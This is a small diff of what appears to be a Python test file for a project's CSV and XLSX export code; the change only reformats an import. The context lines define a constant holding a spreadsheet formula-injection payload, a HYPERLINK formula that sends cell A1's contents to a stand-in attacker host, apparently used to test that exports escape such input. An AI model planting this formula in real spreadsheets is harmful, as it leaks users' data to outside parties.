@@ -12,13 +12,7 @@ from coalition import commitments
 from coalition.commitments import CommitmentDetails
 from coalition.db import db
 from coalition.exports import Sheet, csv_cell, csv_text, xlsx_bytes
-from coalition.models import (
-    CommitmentKind,
-    CommitmentStatus,
-    Initiative,
-    Sector,
-    Unit,
-)
+from coalition.models import CommitmentKind, CommitmentStatus, Initiative, Sector, Unit
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
 MADE_ON = date.today() - timedelta(days=30)
